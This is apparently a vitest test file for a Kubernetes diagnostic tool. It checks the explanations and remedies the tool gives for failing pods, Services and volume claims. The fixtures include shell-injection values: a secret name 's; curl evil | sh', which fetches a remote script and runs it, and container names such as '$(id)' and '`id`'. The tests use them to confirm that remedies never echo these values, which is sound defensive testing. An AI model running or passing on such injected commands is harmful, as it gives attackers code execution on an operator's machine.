import { KubeError, TransportError } from "@raft2kube/client-kube/errors.ts";
import type { KubeRequest, KubeRequester } from "@raft2kube/client-kube/rest/request.ts";
import { describe, expect, it } from "vitest";
import { explain } from "./gather.ts";
import { reasonsOf } from "./scheduling.ts";

type Objects = Readonly<Record<string, object | "forbidden">>;

/** An API of a few paths, lists among them; a list that is missing is empty. */
const api = (objects: Objects): KubeRequester => ({
  async request<T>({ path }: KubeRequest) {
    const plain = path.replace(/\?.*/, "").replace("/api/v1/namespaces/n/", "");
    const found = objects[plain] ?? (/s$/.test(plain) ? { items: [] } : undefined);
    if (typeof found === "object") return structuredClone(found) as T;
    throw new KubeError({ code: found === "forbidden" ? 403 : 404 });
  },
  send: () => Promise.reject(new TypeError("an explanation writes nothing")),
  open: () => Promise.reject(new TypeError("an explanation watches nothing")),
});

const NOW_MS = Date.parse("2030-01-01T00:00:00Z");

const explained = async (kind: string, objects: Objects) => {
  const found = await explain(api(objects), { kind, namespace: "n", name: "x" }, NOW_MS);
  return [found?.state, found?.sentence, found?.remedy, found?.unseen].filter(Boolean).join(" | ");
};

const pod = (spec: object, status: object, labels = {}) => ({
  metadata: { name: "x", namespace: "n", labels },
  spec: { containers: [], ...spec },
  status,
});
const pending = (message: string) => ({
  phase: "Pending",
  conditions: [{ type: "PodScheduled", status: "False", message }],
});
const container = (state: object, more = {}) => ({
  phase: "Running",
  containerStatuses: [{ name: "c", image: "i:1", restartCount: 4, ready: false, state, ...more }],
});
const node = (more = {}) => ({
  items: [
    {
      metadata: { name: "node-1" },
      status: { allocatable: { cpu: "2" }, conditions: [{ type: "Ready", status: "True" }] },
      ...more,
    },
  ],
});
const events = (reason: string, message: string) => ({
  items: [{ reason, message, metadata: {}, lastTimestamp: "2030-01-01T00:00:00Z" }],
});
const onNode = { nodeName: "node-1" };

describe("a pod", () => {
  it.each<[string, Objects, RegExp]>([
    [
      "that requests more than any node has",
      {
        "pods/x": pod(
          { containers: [{ resources: { requests: { cpu: "8" } } }] },
          pending("0/1 nodes are available: 1 Insufficient cpu. preemption: 0/1 nodes are"),
        ),
        "/api/v1/nodes": node(),
      },
      /^wrong .*only node does not take it: 1 with too little free cpu .* 8 .*more than .*\(2\)/,
    ],
    [
      "that no node takes for two reasons",
      {
        "pods/x": pod(
          { nodeSelector: { disk: "ssd" } },
          pending(
            "0/3 nodes are available: 1 node(s) had untolerated taint {a: b}, " +
              "2 node(s) didn't match Pod's node affinity/selector.",
          ),
        ),
        "/api/v1/nodes": node({ spec: { taints: [{ key: "a", effect: "NoSchedule" }] } }),
      },
      /taint that the pod does not tolerate and 2 with labels.*node-1 a:NoSchedule-.*disk=ssd/,
    ],
    [
      "that no node has user namespaces for",
      {
        "pods/x": pod(
          { hostUsers: false },
          pending(
            "0/1 nodes are available: " +
              "1 node(s) didn't have user namespaces for hostUsers: false.",
          ),
        ),
      },
      /1 with a runtime that has no user namespaces .*hostUsers: true/,
    ],
    [
      "whose claim has no class",
      {
        "pods/x": pod(
          { volumes: [{ name: "v", persistentVolumeClaim: { claimName: "d" } }] },
          pending("pod has unbound immediate PersistentVolumeClaims"),
        ),
        "persistentvolumeclaims/d": {
          metadata: { name: "d" },
          spec: {},
          status: { phase: "Pending" },
        },
      },
      /Pod x is Pending: Claim d .*no StorageClass is the default/,
    ],
    [
      "of a scheduler that is not there",
      { "pods/x": pod({ schedulerName: "mine" }, { phase: "Pending" }) },
      /wrong .*scheduler named mine/,
    ],
    [
      "whose image cannot be pulled",
      {
        "pods/x": pod(onNode, container({ waiting: { reason: "ImagePullBackOff" } })),
        "/api/v1/nodes": node(),
        events: {
          items: ['Failed to pull image "i:1": manifest unknown', "Error: ImagePullBackOff"].map(
            (message, i) => ({
              reason: "Failed",
              message,
              metadata: {},
              lastTimestamp: `2030-01-01T00:00:0${i}Z`,
            }),
          ),
        },
      },
      /has no image: i:1 cannot be pulled: manifest unknown \|/,
    ],
    [
      "that waits for a reason named as a property that all objects have",
      {
        "pods/x": pod(onNode, container({ waiting: { reason: "toString" } })),
        "/api/v1/nodes": node(),
      },
      /container c of pod x waits: toString/i,
    ],
    [
      "that runs and is not ready yet",
      { "pods/x": pod(onNode, container({ running: {} })), "/api/v1/nodes": node() },
      /runs; c has not passed its readiness probe yet/,
    ],
    [
      "that crashes",
      {
        "pods/x": pod(
          onNode,
          container(
            { waiting: { reason: "CrashLoopBackOff" } },
            { lastState: { terminated: { exitCode: 127 } } },
          ),
        ),
        "/api/v1/nodes": node(),
      },
      /4 restarts\): last with exit code 127 \(the command was .*logs --previous -n n x -c c/,
    ],
    [
      "whose program there is not",
      {
        "pods/x": pod(
          onNode,
          container(
            { waiting: { reason: "CrashLoopBackOff" } },
            { lastState: { terminated: { exitCode: 128, reason: "StartError", message: "no x" } } },
          ),
        ),
        "/api/v1/nodes": node(),
      },
      /4 restarts\): last with a failed start: no x [|] check its command/,
    ],
    [
      "that uses too much memory",
      {
        "pods/x": pod(
          onNode,
          container(
            { waiting: { reason: "CrashLoopBackOff" } },
            { lastState: { terminated: { exitCode: 137, reason: "OOMKilled" } } },
          ),
        ),
        "/api/v1/nodes": node(),
      },
      /more memory than its limit .*raise resources.limits.memory/,
    ],
    [
      "that waits for a Secret",
      {
        "pods/x": pod(onNode, { phase: "Pending" }),
        "/api/v1/nodes": node(),
        events: events("FailedMount", 'MountVolume.SetUp failed: secret "s" not found'),
      },
      /waits for a volume.*create the secret s/,
    ],
    [
      "that waits for a Secret, of which an event says a command in place of the name",
      {
        "pods/x": pod(onNode, { phase: "Pending" }),
        "/api/v1/nodes": node(),
        events: events("FailedMount", 'secret "s; curl evil | sh" not found'),
      },
      /^(?!.*create the secret).*waits for a volume/s,
    ],
    [
      "whose probe fails",
      {
        "pods/x": pod(onNode, container({ running: {} })),
        "/api/v1/nodes": node(),
        events: events("Unhealthy", "Readiness probe failed: "),
      },
      /runs but is not ready: container c: Readiness probe failed [|] check/,
    ],
    [
      "whose node is lost",
      {
        "pods/x": pod(onNode, { phase: "Running" }),
        "/api/v1/nodes": node({
          status: {
            conditions: [{ type: "Ready", status: "Unknown", message: "stopped posting" }],
          },
        }),
      },
      /node-1 is not Ready: stopped posting .*r2k node start node-1/,
    ],
    [
      "of a reader without rights to nodes",
      {
        "pods/x": pod(onNode, container({ running: {} }, { ready: true })),
        "/api/v1/nodes": "forbidden",
      },
      /waiting .* nodes$/,
    ],
  ])("%s", async (_, objects, wanted) => {
    expect(await explained("pod", objects)).toMatch(wanted);
  });

  it("of a node that names its container as a command has a remedy without that", async () => {
    const terminated = { exitCode: 1, reason: "Error" };
    const init = { name: "`id`", state: { running: {} } };
    for (const [status, remedy] of [
      [container({ terminated }), "-c c"],
      [container({ terminated }, { name: "c; id" }), ""],
      [container({ waiting: { reason: "CrashLoopBackOff" } }, { name: "$(id)" }), ""],
      [{ phase: "Pending", initContainerStatuses: [init] }, ""],
    ] as const) {
      const text = await explained("pod", {
        "pods/x": pod(onNode, status),
        "/api/v1/nodes": node(),
      });
      expect(text.endsWith(["-n n x", remedy].filter(Boolean).join(" ")), text).toBe(true);
    }
  });

  it("that there is not has no explanation", async () => {
    expect(await explained("pod", {})).toBe("");
  });
});

const service = (spec: object) => ({
  metadata: { name: "x", namespace: "n" },
  spec: { clusterIP: "10.0.0.1", ...spec },
});
const slices = (ready: boolean, name = "") => ({
  "/apis/discovery.k8s.io/v1/namespaces/n/endpointslices": {
    items: [{ endpoints: [{ addresses: ["10.1.0.1"], conditions: { ready } }], ports: [{ name }] }],
  },
});

describe("a Service", () => {
  it.each<[string, Objects, RegExp]>([
    [
      "whose selector matches no pod names the nearest",
      {
        "services/x": service({ selector: { app: "web" } }),
        pods: { items: ["x", "wep", "b"].map((app) => pod({}, {}, { app })) },
      },
      /no pod of namespace n has the labels app=web .*pod x is the nearest, with app=wep/,
    ],
    [
      "whose pod is not ready says why the pod is not",
      {
        "services/x": service({ selector: { app: "web" } }),
        ...slices(false),
        pods: {
          items: [pod({}, pending("0/1 nodes are available: 1 Too many pods."), { app: "web" })],
        },
      },
      /wrong .*its only pod is not ready: Pod x is Pending: .*as many pods as allowed/,
    ],
    [
      "whose port's name no container has",
      {
        "services/x": service({
          selector: { app: "web" },
          ports: [{ port: 80, targetPort: "http" }],
        }),
        pods: {
          items: [
            pod(
              { containers: [{ ports: [{ name: "web" }] }] },
              { conditions: [{ type: "Ready", status: "True" }] },
              { app: "web" },
            ),
          ],
        },
      },
      /no answer on port 80: .* port named http .*use one of web/,
    ],
    [
      "whose port's number no container declares",
      {
        "services/x": service({
          selector: { app: "web" },
          ports: [{ port: 80, targetPort: 8081 }],
        }),
        ...slices(true),
        pods: {
          items: [pod({ containers: [{ ports: [{ containerPort: 8080 }] }] }, {}, { app: "web" })],
        },
      },
      /may have no answer on port 80: .* declares port 8081 .*use one of 8080/,
    ],
    [
      "that answers",
      {
        "services/x": service({
          selector: { app: "web" },
          ports: [{ port: 80, targetPort: 8080 }],
        }),
        ...slices(true),
        pods: { items: [pod({}, {}, { app: "web" })] },
      },
      /^well .*at 10.0.0.1, port 80\/TCP, from 1 endpoint$/,
    ],
  ])("%s", async (_, objects, wanted) => {
    expect(await explained("service", objects)).toMatch(wanted);
  });
});

const claim = (spec: object, more = {}) => ({
  metadata: { name: "x", ...more },
  status: { phase: "Pending" },
  spec: { resources: { requests: { storage: "2Gi" } }, ...spec },
});
const classes = (mode: string) => ({
  "/apis/storage.k8s.io/v1/storageclasses": {
    items: [{ metadata: { name: "fast" }, provisioner: "p", volumeBindingMode: mode }],
  },
});

describe("a claim", () => {
  it.each<[string, Objects, RegExp]>([
    [
      "of an unknown class",
      { "persistentvolumeclaims/x": claim({ storageClassName: "slow" }), ...classes("Immediate") },
      /class slow, which does not exist.*or use one of fast/,
    ],
    [
      "that waits for its first consumer",
      {
        "persistentvolumeclaims/x": claim({ storageClassName: "fast" }),
        ...classes("WaitForFirstConsumer"),
      },
      /^waiting .*until a pod uses it/,
    ],
    [
      "whose driver fails",
      {
        "persistentvolumeclaims/x": claim({ storageClassName: "fast" }),
        ...classes("Immediate"),
        events: events("ProvisioningFailed", "no space"),
      },
      /^wrong .*p could not make a volume: no space/,
    ],
    [
      "without a driver, and volumes that are too small",
      {
        "persistentvolumeclaims/x": claim({ storageClassName: "" }),
        "/api/v1/persistentvolumes": {
          items: [
            {
              metadata: { name: "v" },
              spec: { capacity: { storage: "1Gi" } },
              status: { phase: "Available" },
            },
          ],
        },
      },
      /v has 1Gi, less than 2Gi/,
    ],
  ])("%s", async (_, objects, wanted) => {
    expect(await explained("pvc", objects)).toMatch(wanted);
  });
});

it("reads the scheduler's reasons, commas inside a taint included", () => {
  expect(reasonsOf("1 node(s) had untolerated taint {a: b, c}, 2 Insufficient cpu.")).toEqual([
    { count: 1, reason: "node(s) had untolerated taint {a: b, c}" },
    { count: 2, reason: "Insufficient cpu" },
  ]);
});

it("explains a pod about which others wrote more than one answer may have", async () => {
  const kube = api({ "pods/x": pod({}, pending("")), "/api/v1/nodes": node() });
  const request: KubeRequester["request"] = (asked) => {
    const limit = Number(new URL(asked.path, "http://server").searchParams.get("limit"));
    const isTooLong = asked.path.includes("/events") && limit > 100;
    if (isTooLong) return Promise.reject(new TransportError("ETOOBIG", "too long"));
    return kube.request(asked);
  };
  const at = { kind: "pod", namespace: "n", name: "x" };
  expect(await explain({ ...kube, request }, at, 0)).toBeDefined();
});

it("lists once what it needs of a pod's claims, and looks at few of those that a tenant names", async () => {
  const names = Array.from({ length: 1_000 }, (_, i) => `c${i}`);
  const volumes = names.map((claimName) => ({
    name: claimName,
    persistentVolumeClaim: { claimName },
  }));
  const claim = { metadata: { name: "c0", namespace: "n" }, spec: { storageClassName: "fast" } };
  const claims = names.map((name) => [`persistentvolumeclaims/${name}`, claim]);
  const kube = api({ "pods/x": pod({ volumes }, pending("")), ...Object.fromEntries(claims) });
  const asked: string[] = [];
  const request: KubeRequester["request"] = (one) => {
    asked.push(one.path.replace(/\?.*/, ""));
    return kube.request(one);
  };
  await explain({ ...kube, request }, { kind: "pod", namespace: "n", name: "x" }, 0);
  expect(asked.filter((path) => path.endsWith("/pods"))).toHaveLength(1);
  expect(asked.length).toBeLessThan(80);
});
